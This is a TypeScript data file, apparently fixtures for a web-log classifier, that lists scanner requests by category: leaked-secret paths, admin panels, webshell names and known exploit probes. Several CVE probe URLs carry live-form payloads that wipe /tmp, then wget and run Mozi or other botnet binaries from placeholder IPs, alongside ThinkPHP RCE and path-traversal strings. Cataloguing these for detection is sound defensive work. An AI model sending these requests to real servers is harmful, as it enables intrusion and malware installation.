/**
 * What scanners ask for, written as the request targets appear in logs. A hand-picked set per technique;
 * it describes each family, it is not a wordlist.
 */
import type { Category } from '../../../core/index.js';

export interface Probe {
  readonly method: string;
  readonly target: string;
  readonly category: Category;
}

const get =
  (category: Category) =>
  (target: string): Probe => ({ method: 'GET', target, category });

/** Leaked secrets, VCS metadata, backups and dumps. */
export const SENSITIVE_FILES: readonly Probe[] = [
  '/.env',
  '/.env.production',
  '/.env.local',
  '/api/.env',
  '/app/.env',
  '/laravel/.env',
  '/.git/config',
  '/.git/HEAD',
  '/.svn/entries',
  '/.DS_Store',
  '/.aws/credentials',
  '/.ssh/id_rsa',
  '/.htpasswd',
  '/.vscode/sftp.json',
  '/sftp-config.json',
  '/wp-config.php.bak',
  '/wp-config.php~',
  '/config.json',
  '/config/database.yml',
  '/docker-compose.yml',
  '/backup.sql',
  '/db.sql',
  '/dump.sql.gz',
  '/backup.zip',
  '/www.tar.gz',
  '/phpinfo.php',
  '/info.php',
  '/server-status',
  '/actuator/env',
  '/actuator/heapdump',
  '/web.config',
  '/.npmrc',
].map(get('sensitive_file'));

/** Admin panels, management endpoints and application fingerprints. */
export const PANELS: readonly Probe[] = [
  '/wp-admin/setup-config.php',
  '/wp-admin/install.php',
  '/wp-login.php',
  '/wp-includes/wlwmanifest.xml',
  '/xmlrpc.php?rsd',
  '/wp-json/wp/v2/users',
  '/phpmyadmin/',
  '/phpMyAdmin/index.php',
  '/pma/',
  '/adminer.php',
  '/administrator/',
  '/admin/login.php',
  '/manager/html',
  '/actuator/health',
  '/solr/admin/info/system?wt=json',
  '/solr/admin/cores?action=STATUS&wt=json',
  '/jenkins/login',
  '/druid/index.html',
  '/owa/auth/logon.aspx',
  '/remote/login',
  '/+CSCOE+/logon.html',
  '/geoserver/web/',
  '/console/',
  '/telescope/requests',
  '/_profiler/phpinfo',
  '/swagger-ui.html',
  '/v2/api-docs',
  '/graphql',
  '/containers/json',
  '/?XDEBUG_SESSION_START=phpstorm',
].map(get('scanner'));

/** Known exploits: one request each, the way botnets and nuclei templates send them. */
export const CVE_PROBES: readonly Probe[] = [
  { method: 'POST', target: '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', category: 'rce' },
  { method: 'GET', target: '/lib/phpunit/phpunit/src/Util/PHP/eval-stdin.php', category: 'rce' },
  { method: 'GET', target: '/laravel/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', category: 'rce' },
  { method: 'POST', target: '/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh', category: 'path_traversal' },
  { method: 'GET', target: '/cgi-bin/.%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd', category: 'path_traversal' },
  { method: 'GET', target: '/icons/.%2e/%2e%2e/apache2/icons/sendform.cgi', category: 'path_traversal' },
  { method: 'POST', target: '/boaform/admin/formLogin', category: 'cve_probe' },
  { method: 'GET', target: '/HNAP1/', category: 'cve_probe' },
  { method: 'POST', target: '/GponForm/diag_Form?images/', category: 'rce' },
  {
    method: 'GET',
    target: '/shell?cd+/tmp;rm+-rf+*;wget+http://203.0.113.66/jaws;sh+/tmp/jaws',
    category: 'rce',
  },
  {
    method: 'GET',
    target:
      '/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://198.51.100.77:57616/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1',
    category: 'rce',
  },
  {
    method: 'GET',
    target:
      '/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP21',
    category: 'rce',
  },
  {
    method: 'GET',
    target:
      '/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id%3E`wget+http://203.0.113.9/tplink.sh+-O-|sh`)',
    category: 'rce',
  },
  { method: 'POST', target: '/mgmt/tm/util/bash', category: 'rce' },
  { method: 'POST', target: '/_ignition/execute-solution', category: 'rce' },
  {
    method: 'GET',
    target: '/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession',
    category: 'path_traversal',
  },
  { method: 'GET', target: '/vpn/../vpns/cfg/smb.conf', category: 'path_traversal' },
  { method: 'GET', target: '/console/css/%252e%252e%252fconsole.portal', category: 'path_traversal' },
  { method: 'GET', target: '/autodiscover/autodiscover.json?@zdi/Powershell', category: 'cve_probe' },
  { method: 'GET', target: '/actuator/gateway/routes', category: 'cve_probe' },
  {
    method: 'GET',
    target: '/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php',
    category: 'cve_probe',
  },
  { method: 'GET', target: '/level/15/exec/-/sh/run/CR', category: 'cve_probe' },
  { method: 'GET', target: '/?a=fetch&content=<php>die(@md5(HelloThinkCMF))</php>', category: 'rce' },
];

/** Backdoors left by earlier compromises. */
export const WEBSHELLS: readonly Probe[] = [
  '/alfa.php',
  '/wso.php',
  '/c99.php',
  '/shell.php',
  '/cmd.php',
  '/up.php',
  '/wp-content/plugins/hellopress/wp_filemanager.php',
  '/wp-content/uploads/2024/01/shell.php',
  '/wp-admin/css/colors/blue/index.php',
  '/.well-known/acme-challenge/admin.php',
  '/uploads/x.php',
].map(get('webshell'));

/** Directory brute forcing: common names crossed with common extensions. */
export const DIRECTORY_WORDS = [
  'admin',
  'backup',
  'backups',
  'old',
  'new',
  'test',
  'dev',
  'staging',
  'tmp',
  'temp',
  'private',
  'uploads',
  'files',
  'data',
  'db',
  'sql',
  'logs',
  'config',
  'conf',
  'setup',
  'install',
  'api',
  'v1',
  'v2',
  'internal',
  'debug',
  'console',
  'dashboard',
  'panel',
  'cpanel',
  'webmail',
  'portal',
  'secret',
  'src',
  'site',
  'web',
  'www',
  'archive',
  'export',
  'server',
];
export const DIRECTORY_SUFFIXES = ['', '/', '.php', '.bak', '.zip', '.old', '.txt', '.tar.gz'];

/** Harmless requests scanners also make; no attack category. */
export const RECON_PATHS = ['/', '/robots.txt', '/favicon.ico', '/sitemap.xml'];

/** A TLS ClientHello sent to the plain-HTTP port, as nginx escapes it in the log. */
export const TLS_HANDSHAKE =
  '\\x16\\x03\\x01\\x00\\xEE\\x01\\x00\\x00\\xEA\\x03\\x03\\x8C\\xF1\\x0B\\xA2\\x5D\\x19\\xE0\\x7F\\x34\\xC2';
